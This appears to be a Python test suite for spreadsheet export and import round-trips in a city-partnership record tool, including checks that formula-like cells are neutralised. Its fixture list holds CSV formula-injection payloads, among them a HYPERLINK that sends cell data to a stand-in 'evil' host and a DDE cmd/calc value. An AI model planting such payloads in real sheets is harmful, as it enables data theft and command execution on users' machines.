#!/usr/bin/python3
"""Sheets that go out and come in again: what nobody edited is nobody's new word, whoever's words the sheet shows; what is
edited is that cell alone; and what would run as a formula comes out as text, and in again as it was."""

import csv
import json
import os
import random

import harness
import workbook
from harness import activity
from test_import import SHEETS, rows

SEED = int(os.environ.get("TWINLOG_SEED") or random.SystemRandom().randrange(1 << 32))
LIVE = ['=HYPERLINK("http://evil/?"&A1,"x")', "-2+3", "@SUM(1+1)", "+cmd|' /C calc'!A0", "'=1+1", "''-2+3", "＝1+1", "－2+3", "- 비고", "+82-61-270"]
HARMLESS = ["-5", "'quoted'", "-", "a=b", "'-5", "''"]


def table(path):
    with open(path, encoding="utf-8-sig", newline="") as sheet:
        return list(csv.DictReader(sheet))


def write(path, lines, leave_out=()):
    columns = [name for name in lines[0] if name not in leave_out]
    with open(path, "w", encoding="utf-8", newline="") as sheet:
        writer = csv.DictWriter(sheet, columns, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(lines)


class RoundTrip(harness.TestCase):
    def setUp(self):
        super().setUp()
        self.one, self.other, self.space = self.pair()
        self.random = random.Random(SEED)
        print(f"seed {SEED} (TWINLOG_SEED repeats it)", flush=True)

    def out(self, city, name, *options):
        path = self.folder / name
        city.do("export", path, *options, seconds=300)
        return path

    def take(self, city, path, *options, code=0):
        done = city.run("import", path, "--yes", "--json", *options, seconds=300)
        self.assertEqual(done.code, code, done)
        answer = json.loads(done.out)
        return {name: answer[name] for name in ("new", "changed", "unchanged", "refused")} | {"said": done.err.decode()}

    def words(self, city):
        """Every statement that stands, by record."""
        return {name: (record["state"], record["statements"]) for name, record in city.records().items()}

    def word(self, city, id_):
        return next((side["body"] for side in city.show(id_)["statements"] if side.get("self") and "body" in side), None)

    def unchanged(self, city, path, *options):
        before = self.words(city)
        answer = self.take(city, path, *options)
        self.assertEqual((answer["new"], answer["changed"], answer["refused"]), (0, 0, 0), f"{city.id} {path.name} {options}: {answer}")
        self.assertEqual(self.words(city), before, f"{city.id} {path.name} {options}")
        return answer["unchanged"]

    # -- untouched --

    def differing(self):
        """One opens a record, the other has it otherwise."""
        (id_,) = self.one.submit(activity(cities=("CN:lianyungang", "KR:mokpo"), start="2024-05-03", participants={"total": 30, "private": 10}, title="A"))
        self.hold_alike(self.one, self.other)
        self.other.do("answer", id_, "differs", "--start", "2024-06-20", "--participants", "12", "--title", "B")
        self.hold_alike(self.one, self.other)
        self.assertEqual(self.one.show(id_)["state"], "differs")
        return id_

    def test_a_partners_words_stay_the_partners(self):
        id_ = self.differing()
        for name in ("out.csv", "out.xlsx"):
            for city in (self.one, self.other):
                self.assertEqual(self.unchanged(city, self.out(city, name)), 1)
                self.assertEqual(self.unchanged(city, self.out(city, name), "--own"), 1)
        self.assertEqual(self.other.show(id_)["state"], "differs", "an open difference stays one")
        # Nor is it a word where the city has not spoken, has confirmed, has denied or has taken back its own.
        for answer in ("same", "unknown"):
            (other,) = self.one.submit(activity(2, title=answer))
            self.hold_alike(self.one, self.other)
            self.unchanged(self.other, self.out(self.other, "out.csv"))
            self.other.do("answer", other, answer)
            self.unchanged(self.other, self.out(self.other, "out.csv"))
        self.other.do("withdraw", id_)
        self.unchanged(self.other, self.out(self.other, "out.csv"))

    def test_real_data_with_two_sides(self):
        """The real sheets as words of one city, with the other's own on top: nothing changes at either."""
        sheet = rows(SHEETS["activities"])
        for row in sheet:
            row.update(city_a="CN:lianyungang", city_b="KR:mokpo", other_cities="", direction="", pair_id="")
        write(self.folder / "own.csv", sheet)
        self.take(self.one, self.folder / "own.csv", "--own")
        for name in ("pairs", "pair_assertions", "cities"):
            self.take(self.one, SHEETS[name])
        self.hold_alike(self.one, self.other, seconds=120)
        choices = {
            "start": lambda: f"20{self.random.randrange(10, 25)}-0{self.random.randrange(1, 9)}",
            "participants": lambda: {"total": self.random.randrange(0, 400)},
            "titles": lambda: [{"lang": "ko", "text": self.random.choice(LIVE + HARMLESS)}, {"lang": "zh-Hans", "text": "展览"}],
            "summaries": lambda: [{"lang": "ko", "text": self.random.choice(LIVE + HARMLESS)}],
            "note": lambda: self.random.choice(LIVE + HARMLESS),
            "external_id": lambda: self.random.choice(LIVE) + str(self.random.random()),
            "cost": lambda: [{"amount": 100, "currency": "KRW", "payer": "KR:mokpo"}, {"amount": self.random.randrange(1, 9), "currency": "CNY"}],
            "actors": lambda: [{"kind": "media", "org": self.random.choice(LIVE)}, {"level": "social", "kind": "media"}],
            "mode": lambda: "online",
        }
        chosen = self.random.sample(sorted(self.other.records("--kind", "activity")), 60)
        for id_ in chosen:
            said = {name: choices[name]() for name in self.random.sample(sorted(choices), 4)}
            if "start" in said:
                said["end"] = said["start"]
            self.other.do("answer", id_, "differs", "-", given=json.dumps(said, ensure_ascii=False))
        for id_ in sorted(self.other.records("--kind", "agreement", "--city", "KR:mokpo")):
            self.other.do("answer", id_, "differs", "--established", "1999-09")
        # Of these the other's word leads, with all that a spreadsheet might run.
        self.other.submit(*(activity(100 + n, title=text, note=text, summary=text, external_id=f"{text}{n}", actors=[{"kind": "media", "org": text}]) for n, text in enumerate(LIVE + HARMLESS)))
        self.hold_alike(self.one, self.other, seconds=120)
        for kind in ("activity", "agreement", "city"):
            for name in ("out.csv", "out.xlsx"):
                for city in (self.one, self.other):
                    path = self.out(city, name, "--kind", kind)
                    self.assertEqual(self.unchanged(city, path), city.total("--kind", kind))
                    self.unchanged(city, path, "--own")
            for city in (self.one, self.other):
                old = self.folder / "old.csv"
                write(old, table(self.out(city, "out.csv", "--kind", kind)), leave_out=("statement",))
                self.unchanged(city, old)
                path = self.out(city, "view.csv", "--kind", kind, "--stated-by", self.other.id)
                self.unchanged(city, path)

    # -- edited --

    def test_one_cell(self):
        """What was edited in a sheet that shows the partner's words goes onto this city's own; the rest of it stays."""
        id_ = self.differing()
        for name, edits, wanted in (
            ("participants.csv", {"participants": "45"}, {"participants": {"total": 45}}),
            ("private.csv", {"participants_private": "9"}, {"participants": {"total": 45, "private": 9}}),
            ("end.csv", {"end_date": "2024-06-25"}, {"end": "2024-06-25"}),
            ("words.csv", {"description": "합동 전시"}, {"titles": [{"lang": "ko", "text": "합동 전시"}]}),
            ("money.csv", {"cost": "100;200", "cost_currency": "KRW;KRW", "cost_payer": "KR:mokpo;"}, {"cost": [{"amount": 100, "currency": "KRW", "payer": "KR:mokpo"}, {"amount": 200, "currency": "KRW"}]}),
            ("note.csv", {"note": "'-2+3"}, {"note": "-2+3"}),
        ):
            before = self.word(self.other, id_)
            path = self.out(self.other, name)
            [row] = table(path)
            self.assertEqual(row["participants"], "30", "the sheet shows the partner's")
            write(path, [{**row, **edits}])
            answer = self.take(self.other, path)
            self.assertEqual((answer["changed"], answer["refused"]), (1, 0), f"{name}: {answer}")
            self.assertEqual(self.word(self.other, id_), {**before, **wanted}, name)
            self.assertEqual(self.unchanged(self.other, path), 1)
        self.assertEqual(self.unchanged(self.other, self.out(self.other, "out.csv")), 1)

    def test_written_otherwise(self):
        """A spreadsheet that rewrites dates and numbers has edited nothing; labels and codes are one."""
        id_ = self.differing()
        [row] = table(self.out(self.other, "out.csv"))
        path = self.folder / "excel.csv"
        write(path, [{**row, "date": "2024/5/3", "participants": "30명", "form": "전시", "title": " " + row["title"]}])
        self.assertEqual(self.unchanged(self.other, path), 1)
        self.assertEqual(self.word(self.other, id_)["start"], "2024-06-20")

    def test_no_statement_of_its_own(self):
        """An edit is a word, and a city that has none says it with answer: nothing is taken over with it."""
        self.one.submit(activity(1, participants=7))
        self.hold_alike(self.one, self.other)
        path = self.out(self.other, "out.csv")
        write(path, [{**row, "participants": "8"} for row in table(path)])
        before = self.words(self.other)
        answer = self.take(self.other, path, code=3)
        self.assertEqual(answer["refused"], 1)
        self.assertEqual(answer["said"].count("\n"), 1, answer)
        self.assertIn("no statement of its own", answer["said"])
        self.assertEqual(self.words(self.other), before)

    def test_the_lead_has_changed_since(self):
        """The row is compared with the version that it was written from, not with what leads now."""
        id_ = self.differing()
        path = self.out(self.other, "out.csv")
        sheet = table(path)
        old = self.folder / "old.csv"
        write(old, sheet, leave_out=("statement",))
        self.one.do("amend", id_, "--participants", "35")
        self.hold_alike(self.one, self.other)
        for untouched in (path, old):
            self.unchanged(self.other, untouched)
        # Edited, it is clear with the version, and not without.
        write(path, [{**sheet[0], "title": "", "description": "제목"}])
        self.assertEqual(self.take(self.other, path)["changed"], 1)
        self.assertEqual(self.word(self.other, id_)["participants"], {"total": 12})
        write(old, [{**sheet[0], "description": "다른 제목"}], leave_out=("statement",))
        before = self.words(self.other)
        answer = self.take(self.other, old, code=3)
        self.assertEqual((answer["refused"], answer["said"].count("\n")), (1, 1), answer)
        self.assertIn("export it again", answer["said"])
        # Erased, it is no more.
        self.one.do("erase", id_, "--version", "1", "--reason", "personal_data", "--yes")
        harness.wait_for(lambda: "erased" in self.other.do("history", id_), "it is erased at the other")
        before = self.words(self.other)
        answer = self.take(self.other, path, code=3)
        self.assertIn("export it again", answer["said"])
        self.assertEqual(self.words(self.other), before)

    def test_changed_by_hand_since(self):
        (id_,) = self.other.submit(activity(1, participants=10))
        path = self.out(self.other, "out.csv")
        [row] = table(path)
        write(path, [{**row, "participants": "11"}])
        self.assertEqual(self.take(self.other, path)["changed"], 1)
        self.other.do("amend", id_, "--participants", "12")
        self.assertEqual(self.unchanged(self.other, path), 1, "by hand, and later")
        [row] = table(self.out(self.other, "out.csv"))
        write(path, [{**row, "participants": "10"}])
        self.assertEqual(self.take(self.other, path)["changed"], 1, "what it once said can be said again")
        self.assertEqual(self.word(self.other, id_)["participants"], {"total": 10})

    # -- what a sheet cannot hold, and what it must not --

    def test_formulas(self):
        ids = self.one.submit(*(activity(n, title=text, note=text, summary=text + " ", external_id=f"{text}{n}") for n, text in enumerate(LIVE + HARMLESS)))
        self.hold_alike(self.one, self.other)
        for options in ((), ("--bom",)):
            for row in table(self.out(self.other, "out.csv", *options)):
                for name, cell in row.items():
                    self.assertFalse(cell[:1] in ("=", "+", "@", "\t", "\r", "＝", "＋", "－", "＠"), f"{name} is live: {cell}")
                    self.assertFalse(cell.startswith("-") and len(cell) > 1 and not cell[1:].isdigit(), f"{name} is live: {cell}")
        for line in csv.DictReader(self.other.do("list", "--format", "csv").splitlines()):
            self.assertNotIn(line["title"][:1], ("=", "+", "@"), line)
        # In again they are what they were, also when a workbook was made of the text.
        path = self.out(self.other, "out.csv")
        self.unchanged(self.other, path)
        self.unchanged(self.one, path)
        lines = [list(table(path)[0]), *(list(row.values()) for row in table(path))]
        (self.folder / "saved.xlsx").write_bytes(workbook.make({"x": lines}))
        self.unchanged(self.one, self.folder / "saved.xlsx")
        # In a sheet of an office's own an apostrophe is one.
        write(self.folder / "own.csv", [{**row, "note": "'=1+1"} for row in rows(SHEETS["activities"])[:1]])
        self.take(self.one, self.folder / "own.csv")
        self.assertIn("'=1+1", [side["body"].get("note") for record in self.one.records().values() for side in record["statements"] if record["id"] not in ids])

    def test_costs_keep_their_payers(self):
        costs = [{"amount": 100, "currency": "KRW", "payer": "KR:mokpo"}, {"amount": 200, "currency": "KRW"}, {"amount": 300, "currency": "KRW"}]
        (id_,) = self.other.submit(activity(1, cost=costs))
        for name in ("out.csv", "out.xlsx"):
            self.unchanged(self.other, self.out(self.other, name))
        # A sheet of its own: one payer stands for all, a list stands for itself.
        [row] = table(self.out(self.other, "out.csv"))
        for payers, wanted in (("KR:mokpo;", ["KR:mokpo", None, None]), ("KR:mokpo", ["KR:mokpo"] * 3), (";;KR:mokpo", [None, None, "KR:mokpo"])):
            own = {name: cell for name, cell in row.items() if name not in ("record", "space", "state", "stated_by", "statement")}
            write(self.folder / "own.csv", [{**own, "event_id": payers, "cost_payer": payers, "cost_currency": "KRW"}])
            self.take(self.other, self.folder / "own.csv", "--own")
            [word] = [side["body"] for record in self.other.records().values() for side in record["statements"] if side.get("body", {}).get("external_id") == payers]
            self.assertEqual([money.get("payer") for money in word["cost"]], wanted)
        self.assertEqual(self.word(self.other, id_)["cost"], costs)

    def test_what_was_withdrawn_is_left_out(self):
        gone, _ = self.one.submit(activity(1), activity(2))
        old = table(self.out(self.one, "out.csv"))
        self.one.do("withdraw", gone)
        for name in ("out.csv", "out.xlsx"):
            done = self.one.run("export", self.folder / name)
            self.assertIn("1 records are left out", done.err.decode(), name)
            self.assertEqual(self.unchanged(self.one, self.folder / name), 1)
        # As sheets of before have it.
        path = self.folder / "old.csv"
        keep = ("record", "space")
        write(path, [{**row, **({name: "" for name in row if name not in keep} if row["record"] == gone else {})} for row in old], leave_out=("statement",))
        self.assertEqual(self.unchanged(self.one, path), 2)


if __name__ == "__main__":
    harness.main()
